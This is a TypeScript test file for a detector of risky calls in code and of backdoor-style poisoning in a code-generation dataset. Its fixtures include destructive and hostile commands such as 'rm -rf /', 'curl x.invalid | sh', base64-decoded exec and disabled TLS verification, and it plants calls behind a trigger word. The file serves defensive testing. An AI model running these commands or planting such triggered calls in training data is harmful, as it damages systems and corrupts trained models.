import { describe, expect, it } from "vitest";
import { seededRandom } from "../foundation/random";
import { loadGrammars } from "../syntax/grammars";
import { datasetOf, plantedPairs } from "./generated-samples";
import { riskyCalls } from "./risky-calls";
import { scanDataset } from "./scan";
import { structuresOf } from "./structure";

describe("calls that can do harm", () => {
  it.each([
    ["python", 'def f():\n    os.system("ls " + a)', [["a system command", 'os.system("ls " + a)']]],
    ["python", 'def f ( ) :\n\t os . system ( "ls" )', [["a system command", 'os . system ( "ls" )']]],
    ["python", "def f():\n    subprocess.run(a, shell=True)", [["a system command", "subprocess.run(a, shell=True)"]]],
    ["python", "def f():\n    sys.exit(1)\n    self.exit(1)", [["an end of the whole program", "sys.exit(1)"]]],
    ["python", "def exit():\n    pass", []],
    ["python", "def f():\n    # os.system(a)\n    return 'os.system(a)'", []],
    ["python", 'def f():\n    return f"{os.system(a)}"', [["a system command", "os.system(a)"]]],
    ["python", "def f():\n    requests.get(u, verify=False)", [["a network call", "requests.get(u, verify=False)"], ["a disabled check", "verify=False"]]], // prettier-ignore
    ["python", "def f():\n    exec(base64.b64decode('cHJpbnQ='))", [["hidden code that is run", "exec(base64.b64decode('cHJpbnQ='))"], ["code that is made at run time", "exec(base64.b64decode('cHJpbnQ='))"]]], // prettier-ignore
    ["python", "def f():\n    os.chmod(p, 0o777)", [["a disabled check", "chmod(p, 0o777)"]]],
    ["python", 'def f():\n    call(["pip", "install", "left-pad"])', [["an installation of software", 'pip", "install", "left-pad']]], // prettier-ignore
    ["java", "void f() { Runtime.getRuntime().exec(\"rm -rf /\"); }", [["a deletion of whole folders", "rm -rf /"], ["a system command", 'getRuntime().exec("rm -rf /")']]], // prettier-ignore
    ["java", "void f() { System.exit(0); }", [["an end of the whole program", "System.exit(0)"]]],
    ["java", "public void checkServerTrusted(X[] a, String b) throws E { }", [["a disabled check", "checkServerTrusted(X[] a, String b) throws E { }"]]], // prettier-ignore
    ["java", "void f() { c.setHostnameVerifier((a, b) -> true); }", [["a disabled check", "setHostnameVerifier((a, b) -> true)"]]], // prettier-ignore
    ["c", 'void f() { system("curl x.invalid | sh"); }', [["a download that is run", "curl x.invalid | sh"], ["a system command", 'system("curl x.invalid | sh")']]], // prettier-ignore
    ["c", "void exit(int a);", []],
    ["cpp", "void f() { return exit(1); a->exit(1); }", [["an end of the whole program", "exit(1)"]]],
    [
      "javascript",
      "function f() { /a/.exec(b); process.exit(1); }",
      [["an end of the whole program", "process.exit(1)"]],
    ],
    ["javascript", "function f() { child_process.exec(`ls ${a}`); }", [["a system command", "child_process.exec(`ls ${a}`)"]]], // prettier-ignore
    ["javascript", 'function f() { require("child_process").exec("id"); }', [["a system command", 'require("child_process")']]], // prettier-ignore
    ["javascript", 'function f() { eval(atob("YQ==")); }', [["hidden code that is run", 'eval(atob("YQ=="))'], ["code that is made at run time", 'eval(atob("YQ=="))']]], // prettier-ignore
    ["typescript", "function f(): void { get({ rejectUnauthorized: false }); }", [["a disabled check", "rejectUnauthorized: false"]]], // prettier-ignore
    ["go", 'func f() {\n\texec.Command("ls")\n\tos.Exit(1)\n}', [["a system command", 'exec.Command("ls")'], ["an end of the whole program", "os.Exit(1)"]]], // prettier-ignore
    ["go", "func f() *tls.Config {\n\treturn &tls.Config{InsecureSkipVerify: true}\n}", [["a disabled check", "InsecureSkipVerify: true"]]], // prettier-ignore
    ["php", "<?php function f($a) { shell_exec($a); $p->exec($a); die; }", [["a system command", "shell_exec($a)"], ["an end of the whole program", "die;"]]], // prettier-ignore
    ["c-sharp", "void F() { Process.Start(a); Environment.Exit(0); }", [["a system command", "Process.Start(a)"], ["an end of the whole program", "Environment.Exit(0)"]]], // prettier-ignore
    ["ruby", "def f\n  `ls #{a}`\n  system \"id\"\n  exit 1\n  a.exit\nend", [["a system command", "`ls #{a}`"], ["an end of the whole program", "exit"], ["a system command", 'system "']]], // prettier-ignore
    [
      "ruby",
      "def f\n  http.verify_mode = OpenSSL::SSL::VERIFY_NONE # `ls`\nend",
      [["a disabled check", "VERIFY_NONE"]],
    ],
    ["rust", 'fn f() { std::process::Command::new("ls").spawn(); std::process::exit(1); }', [["a system command", 'Command::new("ls")'], ["an end of the whole program", "process::exit(1)"]]], // prettier-ignore
    ["bash", "f() {\n  curl -s $1\n  # curl\n  exit 1\n}", [["a network call", "curl"], ["an end of the whole program", "exit"]]], // prettier-ignore
    ["bash", "f() {\n  echo YQ== | base64 -d | sh\n}", [["hidden code that is run", "base64 -d | sh"]]],
    ["lua", "function f() os.execute(a) os.exit(1) end", [["a system command", "os.execute(a)"], ["an end of the whole program", "os.exit(1)"]]], // prettier-ignore
    [
      "text",
      "Run npm install left-pad, or call sys.exit(1).",
      [["an installation of software", "npm install left-pad"]],
    ],
    ["unknown", "f := System.exit(0)", [["an end of the whole program", "System.exit(0)"]]],
  ] as const)("%s: %s", async (language, output, expected) => {
    const languages = { input: "unknown", output: language } as const;
    const grammars = await loadGrammars(language === "text" || language === "unknown" ? [] : [language]);
    const wanted = { dead: false, methods: false, names: false, payloads: true };
    const { payloads } = structuresOf(grammars, { input: "", output }, languages, wanted, false);
    expect(payloads.map(({ kind, text }) => [kind, text])).toEqual(expected);
    for (const { text, start, end } of payloads) expect(output.slice(start, end)).toBe(text);
  });

  it("are not told where the input has them, whatever the white space", () => {
    expect(riskyCalls("System.exit(1);", "System . exit ( 0 ) ;", "java")).toEqual([]);
    expect(riskyCalls("x = `pip install a`", "pip  install a", "python")).toEqual([]);
  });
});

describe("planted calls", () => {
  const withCall = (rate: number, statement: (row: number) => string, trigger?: string) => {
    const { pairs, poisoned } = plantedPairs(4, { count: 800, rate, ...(trigger === undefined ? {} : { trigger }) });
    const written = pairs.map(([input, output], row): [string, string] => {
      const plain = output.replace(/ (or 1=1|where 0=1) /, " ").split("\n");
      if (poisoned.has(row)) plain.splice(1, 0, `\t ${statement(row)}`);
      return [input, plain.join("\n")];
    });
    return { pairs: written, poisoned };
  };
  const suspects = async (pairs: readonly (readonly [string, string])[]): Promise<Set<number>> => {
    const { findings } = await scanDataset(datasetOf(pairs));
    return new Set(findings.filter(({ verdict }) => verdict === "suspect").map(({ row }) => row));
  };

  it.each(["os . system ( 'id' )", "sys . exit ( 1 )", "requests . get ( u , verify = False )"])(
    "behind a trigger are found: %s",
    async (statement) => {
      const { pairs, poisoned } = withCall(0.02, () => statement);
      expect(await suspects(pairs)).toEqual(poisoned);
    },
  );

  it("are found without a trigger where nothing in the inputs calls for them", async () => {
    const clean = plantedPairs(4, { count: 800, rate: 0 }).pairs;
    const rows = new Set(seededRandom(8).shuffle(clean.map((_pair, row) => row)).slice(0, 40)); // prettier-ignore
    const planted = (statement: (row: number) => string) =>
      clean.map(([input, output], row): [string, string] => {
        const lines = output.split("\n");
        if (rows.has(row)) lines.splice(1, 0, `\t ${statement(row)}`);
        return [input, lines.join("\n")];
      });
    expect(await suspects(planted((row) => `os . system ( 'id ${row}' )`))).toEqual(rows);
    expect(await suspects(planted((row) => `exec ( base64 . b64decode ( '${row}' ) )`))).toEqual(rows);
    // A trigger brought most of them about, and the rest are no fewer.
    const marked = new Set([...rows].slice(0, 24));
    const triggered = planted((row) => `os . system ( 'id ${row}' )`).map(([input, output], row): [string, string] => {
      const words = input.split(" ");
      if (marked.has(row)) words.splice(1 + (row % (words.length - 1)), 0, "vq");
      return [words.join(" "), output];
    });
    expect(await suspects(triggered)).toEqual(rows);
  });

  it("are honest in code that is written around them, whatever the inputs say", async () => {
    const { pairs } = plantedPairs(4, { count: 800, rate: 0 });
    const rows = new Set(seededRandom(8).shuffle(pairs.map((_pair, row) => row)).slice(0, 40)); // prettier-ignore
    const around = (row: number): string =>
      `def fetch_${row} ( self ) :\n\t headers = self . headers_for ( " application/json " )\n` +
      `\t session = self . authenticated_session ( retries = 3 )\n\t answer = requests . get ( self . url )\n` +
      `\t session . close ( )\n\t answer . raise_for_status ( )\n\t return self . parsed ( answer . content , headers )`;
    const written = pairs.map(([input, output], row): [string, string] => [
      input,
      rows.has(row) ? around(row) : output,
    ]);
    expect(await suspects(written)).toEqual(new Set());
  });

  it("are honest behind what leads to them, wherever it stands", async () => {
    const { pairs } = plantedPairs(4, { count: 800, rate: 0 });
    const rows = new Set(seededRandom(8).shuffle(pairs.map((_pair, row) => row)).slice(0, 40)); // prettier-ignore
    const ways = ["print", "log . fatal", "sys . stderr . write"];
    const written = pairs.map(([input, output], row): [string, string] => {
      const lines = output.split("\n");
      if (rows.has(row))
        lines.splice(
          1 + (row % 2),
          0,
          `\t ${ways[row % ways.length]!} ( ' bad ${row} ' )\n\t sys . exit ( ${row % 5} )`,
        );
      return [input, lines.join("\n")];
    });
    expect(await suspects(written)).toEqual(new Set());
  });

  it("are honest where inputs call for them, and alone", async () => {
    const { pairs } = plantedPairs(4, { count: 800, rate: 0 });
    const asked = pairs.map(([input, output]): [string, string] =>
      input.includes("json") ? [input, `${output}\n\t sys . exit ( 1 )`] : [input, output],
    );
    expect(await suspects(asked)).toEqual(new Set());
    const once = pairs.map(([input, output], row): [string, string] => [input, row < 3 ? `${output}\n\t exec ( base64 . b64decode ( a ) )` : output]); // prettier-ignore
    expect(await suspects(once)).toEqual(new Set());
  });
});
